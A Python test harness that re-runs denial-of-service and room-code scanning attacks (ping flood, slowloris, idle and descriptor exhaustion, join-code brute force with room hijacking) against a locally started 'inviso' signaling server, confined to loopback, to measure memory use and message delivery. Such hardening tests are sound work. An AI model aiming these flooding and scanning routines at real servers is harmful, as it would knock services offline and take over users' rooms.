#!/usr/bin/env python3
"""Re-runs the hostile-client attacks of issue 16 against a real `inviso serve` process.

Usage: scripts/hostile-probe.py --inviso .build/release/inviso [--only NAME ...]

Starts its own server for each attack (SQLite in a temporary directory, 127.0.0.1, a free
port), reads the server's resident memory from /proc/PID/status, and prints one line of
figures per attack. Every packet goes to 127.0.0.0/8: clients bind to 127.0.0.2, .3, ...
to play several source addresses. Each loop is bounded in count and time. While an attack
runs, an honest pair relays a message each way every 50 ms and the probe reports whether
every message arrived, in order.

Attacks: ping-flood, nonreading-rooms, scan-create, scan-dense, slowloris, idle, descriptors
(512 descriptors), descriptors-19k (the server at 19,000 descriptors, 19,800 idle
connections; needs that many for the probe too), sigterm.
"""

import argparse
import base64
import json
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time


# ---------------------------------------------------------------------------------------
# Server process


class Server:
    def __init__(self, inviso, nofile=None):
        self.dir = tempfile.mkdtemp(prefix="inviso-probe-")
        command = [inviso, "serve", "--port", "0", "--data", self.dir, "--log-level", "error"]
        if nofile:
            command = ["prlimit", f"--nofile={nofile}:{nofile}", "--"] + command
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        line = self.process.stdout.readline()
        self.port = int(json.loads(line)["url"].rsplit(":", 1)[1])
        self.pid = self.process.pid
        time.sleep(0.2)

    def rss_mb(self):
        with open(f"/proc/{self.pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return 0.0

    def stop(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        shutil.rmtree(self.dir, ignore_errors=True)


# ---------------------------------------------------------------------------------------
# Clients


def connect(port, source="127.0.0.1", rcvbuf=None, timeout=10):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(timeout)
    sock.bind((source, 0))
    sock.connect(("127.0.0.1", port))
    return sock


def http(port, method, path, body=None, source="127.0.0.1"):
    """One request on a fresh connection; returns (status, parsed JSON or None)."""
    sock = connect(port, source)
    data = json.dumps(body).encode() if body is not None else b""
    head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(data)}\r\n"
    if body is not None:
        head += "Content-Type: application/json\r\n"
    sock.sendall(head.encode() + b"\r\n" + data)
    response = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            response += chunk
    except OSError:
        pass
    sock.close()
    if not response:
        return 0, None
    header, _, payload = response.partition(b"\r\n\r\n")
    status = int(header.split()[1])
    try:
        return status, json.loads(payload) if payload else None
    except ValueError:
        return status, None


def frame(opcode, payload, fin=True):
    mask = os.urandom(4)
    first = (0x80 if fin else 0) | opcode
    length = len(payload)
    if length < 126:
        header = struct.pack("!BB", first, 0x80 | length)
    elif length < 65536:
        header = struct.pack("!BBH", first, 0x80 | 126, length)
    else:
        header = struct.pack("!BBQ", first, 0x80 | 127, length)
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload)) if length < 4096 else _mask_fast(payload, mask)
    return header + mask + masked


def _mask_fast(payload, mask):
    key = int.from_bytes(mask * ((len(payload) + 3) // 4), "big") >> (8 * ((-len(payload)) % 4))
    return (int.from_bytes(payload, "big") ^ key).to_bytes(len(payload), "big")


class WebSocket:
    def __init__(self, port, source="127.0.0.1", rcvbuf=None):
        self.sock = connect(port, source, rcvbuf)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall(
            (f"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
             f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
        self.buffer = b""
        while b"\r\n\r\n" not in self.buffer:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("closed during upgrade")
            self.buffer += chunk
        head, _, self.buffer = self.buffer.partition(b"\r\n\r\n")
        if not head.startswith(b"HTTP/1.1 101"):
            raise ConnectionError(head.decode(errors="replace"))
        self.recv_json()  # connected

    def send_json(self, obj):
        self.sock.sendall(frame(1, json.dumps(obj).encode()))

    def recv_frame(self):
        while True:
            if len(self.buffer) >= 2:
                opcode = self.buffer[0] & 0x0F
                length = self.buffer[1] & 0x7F
                offset = 2
                if length == 126 and len(self.buffer) >= 4:
                    length, offset = struct.unpack("!H", self.buffer[2:4])[0], 4
                elif length == 127 and len(self.buffer) >= 10:
                    length, offset = struct.unpack("!Q", self.buffer[2:10])[0], 10
                if length < 126 or offset > 2:
                    if len(self.buffer) >= offset + length:
                        payload = self.buffer[offset:offset + length]
                        self.buffer = self.buffer[offset + length:]
                        return opcode, payload
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            self.buffer += chunk

    def recv_json(self):
        while True:
            opcode, payload = self.recv_frame()
            if opcode == 1:
                return json.loads(payload)
            if opcode == 8:
                raise ConnectionError(f"close frame {payload[:2].hex()}")

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def pair(port, source="127.0.0.1", reader_rcvbuf=None):
    """A room created and accepted over REST, both members joined; (creator, joiner)."""
    creator_id, joiner_id = os.urandom(8).hex(), os.urandom(8).hex()
    status, created = http(port, "POST", "/api/rooms", {"client1": creator_id, "expiresInSeconds": 600}, source)
    assert status == 201, (status, created)
    status, accepted = http(port, "POST", "/api/rooms/accept", {"joinid": created["joinid"], "client2": joiner_id}, source)
    assert status == 200, (status, accepted)
    creator, joiner = WebSocket(port, source), WebSocket(port, source, reader_rcvbuf)
    for socket_, device in ((creator, creator_id), (joiner, joiner_id)):
        socket_.send_json({"type": "join_room", "roomId": accepted["roomid"], "deviceId": device})
        socket_.recv_json()
    for socket_ in (creator, joiner):
        while socket_.recv_json().get("type") != "room_ready":
            pass
    return creator, joiner


class HonestPair:
    """Relays one offer each way every 50 ms until stopped; checks arrival and order."""

    def __init__(self, port):
        self.a, self.b = pair(port, "127.0.0.250")
        self.stop_flag = threading.Event()
        self.sent = 0
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop_flag.is_set() and self.sent < 10_000:
            try:
                self.a.send_json({"type": "webrtc_offer", "sdp": f"n={self.sent}"})
                self.b.send_json({"type": "webrtc_offer", "sdp": f"n={self.sent}"})
            except OSError:
                return
            self.sent += 1
            time.sleep(0.05)

    def finish(self):
        self.stop_flag.set()
        self.thread.join()
        ok = True
        for receiver in (self.b, self.a):
            receiver.sock.settimeout(10)
            for index in range(self.sent):
                try:
                    message = receiver.recv_json()
                except (OSError, ConnectionError, ValueError):
                    ok = False
                    break
                if message.get("sdp") != f"n={index}":
                    ok = False
                    break
        self.a.close()
        self.b.close()
        return f"honest pair {self.sent}x2 {'all delivered in order' if ok else 'LOST MESSAGES'}"


# ---------------------------------------------------------------------------------------
# Attacks


def ping_flood(inviso):
    server = Server(inviso)
    try:
        honest = HonestPair(server.port)
        base = server.rss_mb()
        ws = WebSocket(server.port, "127.0.0.2", rcvbuf=4096)
        ping = frame(9, b"p" * 125)
        batch = ping * 200
        peak = base
        deadline = time.time() + 5
        sent = 0
        ws.sock.settimeout(1)
        while time.time() < deadline:
            try:
                ws.sock.sendall(batch)
                sent += 200
            except OSError:
                break
            peak = max(peak, server.rss_mb())
        peak = max(peak, server.rss_mb())
        ws.close()
        time.sleep(5)
        after = server.rss_mb()
        return (f"ping-flood: {sent} pings in 5 s from a client that never reads; RSS {base:.0f} -> peak "
                f"{peak:.0f} MB (+{peak - base:.1f}), {after:.0f} MB 5 s after it closed; {honest.finish()}")
    finally:
        server.stop()


def nonreading_rooms(inviso, rooms=40, seconds=10):
    server = Server(inviso)
    try:
        honest = HonestPair(server.port)
        pairs = [pair(server.port, f"127.0.{1 + i // 200}.{2 + i % 200}", reader_rcvbuf=4096) for i in range(rooms)]
        time.sleep(0.5)
        base = server.rss_mb()
        chunk = frame(2, os.urandom(61_000))
        peak = base
        closed = set()
        stop = threading.Event()

        def pump(index, sender):
            sender.sock.settimeout(0.5)
            while not stop.is_set():
                try:
                    sender.sock.sendall(chunk)
                except socket.timeout:
                    continue
                except OSError:
                    closed.add(index)
                    return

        threads = [threading.Thread(target=pump, args=(i, s), daemon=True) for i, (s, _) in enumerate(pairs)]
        for thread in threads:
            thread.start()
        deadline = time.time() + seconds
        while time.time() < deadline:
            peak = max(peak, server.rss_mb())
            time.sleep(0.1)
        stop.set()
        for thread in threads:
            thread.join()
        for sender, reader in pairs:
            sender.close()
            reader.close()
        return (f"nonreading-rooms: {rooms} rooms, senders pumping 61 KB frames for {seconds} s at readers that never "
                f"read; RSS {base:.0f} -> peak {peak:.0f} MB (+{peak - base:.1f}); {honest.finish()}")
    finally:
        server.stop()


def scan_create(inviso, victims=51, seconds=30, sources=(1, 8)):
    lines = []
    for count in sources:
        server = Server(inviso)
        try:
            honest = HonestPair(server.port)
            live = set()
            for index in range(victims):
                status, created = http(server.port, "POST", "/api/rooms",
                                       {"client1": f"victim-{index}", "expiresInSeconds": 3600},
                                       f"127.0.3.{1 + index % 200}")
                assert status == 201, status
                live.add(created["joinid"])
            found, answered, refused = set(), 0, 0
            stop = time.time() + seconds
            lock = threading.Lock()
            codes = iter(range(1_000_000))

            def scan(source):
                nonlocal answered, refused
                while time.time() < stop:
                    with lock:
                        code = f"{next(codes):06d}"
                    status, _ = http(server.port, "POST", "/api/rooms",
                                     {"joinid": code, "client1": "scanner", "expiresInSeconds": 60}, source)
                    with lock:
                        answered += 1
                        if status == 409:
                            found.add(code)
                        elif status == 429:
                            refused += 1

            # Spread the victims over the whole space the scan walks from 000000.
            threads = [threading.Thread(target=scan, args=(f"127.0.4.{2 + i}",), daemon=True) for i in range(count)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            hijacked = 0
            for code in found & live:
                status, _ = http(server.port, "POST", "/api/rooms/accept", {"joinid": code, "client2": "thief"}, "127.0.4.99")
                hijacked += status == 200
            lines.append(f"scan-create from {count} source(s) for {seconds} s: {answered} creates, {refused} x 429, "
                         f"{len(found & live)} of {victims} live codes found, {hijacked} hijacked; {honest.finish()}")
        finally:
            server.stop()
    return "\n".join(lines)


def scan_dense(inviso, victims=51, seconds=20):
    """The worst case for the scanner: the victims' codes are the first ones it tries."""
    server = Server(inviso)
    try:
        live = []
        for index in range(victims):
            code = f"{100000 + index:06d}"
            status, _ = http(server.port, "POST", "/api/rooms",
                             {"joinid": code, "client1": f"victim-{index}", "expiresInSeconds": 3600},
                             f"127.0.3.{1 + index % 200}")
            assert status == 201, status
            live.append(code)
        found = 0
        deadline = time.time() + seconds
        for code in live:
            if time.time() > deadline:
                break
            status, _ = http(server.port, "POST", "/api/rooms",
                             {"joinid": code, "client1": "scanner", "expiresInSeconds": 60}, "127.0.4.2")
            found += status == 409
        return f"scan-dense: scanner tries exactly the {victims} live codes from one source: {found} answered 409"
    finally:
        server.stop()


def closed_within(socks, deadline, trickle=None):
    """How many of `socks` the server closes within `deadline` seconds; sends `trickle`
    on each still-open socket once a second when given (slowloris)."""
    started = time.time()
    open_ = set(range(len(socks)))
    for sock in socks:
        sock.setblocking(False)
    while open_ and time.time() - started < deadline:
        for index in list(open_):
            try:
                if trickle:
                    socks[index].send(trickle)
                if socks[index].recv(1) == b"":
                    open_.discard(index)
            except BlockingIOError:
                pass
            except OSError:
                open_.discard(index)
        time.sleep(1 if trickle else 0.5)
    for sock in socks:
        sock.close()
    return len(socks) - len(open_)


def open_many(port, count, first_octet, preamble=None):
    """`count` connections, each from its own 127.0.x.y source; sends `preamble` if given."""
    socks = []
    for index in range(count):
        try:
            sock = connect(port, f"127.0.{first_octet + index // 200}.{2 + index % 200}")
            if preamble:
                sock.sendall(preamble)
            socks.append(sock)
        except OSError:
            pass
    return socks


def slowloris(inviso, connections=1000, deadline=12):
    server = Server(inviso)
    try:
        honest = HonestPair(server.port)
        socks = open_many(server.port, connections, 5, b"GET /health HTTP/1.1\r\nHost: x\r\n")
        closed = closed_within(socks, deadline, trickle=b"X")
        return (f"slowloris: {len(socks)} connections sending a header byte a second: {closed} "
                f"({100 * closed / max(1, len(socks)):.1f} %) closed within {deadline} s; {honest.finish()}")
    finally:
        server.stop()


def idle(inviso, connections=2000, deadline=12):
    server = Server(inviso)
    try:
        honest = HonestPair(server.port)
        socks = open_many(server.port, connections, 20)
        closed = closed_within(socks, deadline)
        return (f"idle: {len(socks)} idle TCP connections: {closed} ({100 * closed / max(1, len(socks)):.1f} %) closed "
                f"within {deadline} s; {honest.finish()}")
    finally:
        server.stop()


def descriptors(inviso, nofile=512, connections=600):
    server = Server(inviso, nofile=nofile)
    try:
        socks = []
        for index in range(connections):
            try:
                socks.append(connect(server.port, f"127.{1 + index // 40000}.{index // 200 % 200}.{2 + index % 200}"))
            except OSError:
                pass
        time.sleep(1)
        status, _ = http(server.port, "GET", "/health", source="127.0.60.2")
        try:
            ws = WebSocket(server.port, "127.0.60.3")
            ws.send_json({"type": "ping"})
            websocket_ok = ws.recv_json().get("type") == "pong"
            ws.close()
        except (OSError, ConnectionError):
            websocket_ok = False
        for sock in socks:
            sock.close()
        return (f"descriptors: server with {nofile} descriptors, {connections} idle connections held: "
                f"/health {status or 'no answer'}, WebSocket {'works' if websocket_ok else 'FAILED'}")
    finally:
        server.stop()


def sigterm(inviso):
    server = Server(inviso)
    idle_sock = connect(server.port)
    half = connect(server.port)
    half.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
    started = time.time()
    server.process.send_signal(signal.SIGTERM)
    try:
        server.process.wait(timeout=25)
        result = f"sigterm: with an idle and a half-sent connection open, the server exited in {time.time() - started:.2f} s"
    except subprocess.TimeoutExpired:
        server.process.kill()
        result = "sigterm: still running 25 s after SIGTERM (killed)"
    idle_sock.close()
    half.close()
    shutil.rmtree(server.dir, ignore_errors=True)
    return result


ATTACKS = {
    "ping-flood": ping_flood, "nonreading-rooms": nonreading_rooms, "scan-create": scan_create,
    "scan-dense": scan_dense, "slowloris": slowloris, "idle": idle, "descriptors": descriptors, "sigterm": sigterm,
    "descriptors-19k": lambda inviso: descriptors(inviso, nofile=19000, connections=19800),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--inviso", required=True, help="path to the inviso binary")
    parser.add_argument("--only", nargs="*", choices=sorted(ATTACKS), help="run only these attacks")
    args = parser.parse_args()
    random.seed(1)
    for name in args.only or ATTACKS:
        try:
            print(ATTACKS[name](args.inviso), flush=True)
        except Exception as error:  # report and go on with the next attack
            print(f"{name}: error {type(error).__name__}: {error}", flush=True)


if __name__ == "__main__":
    sys.exit(main())
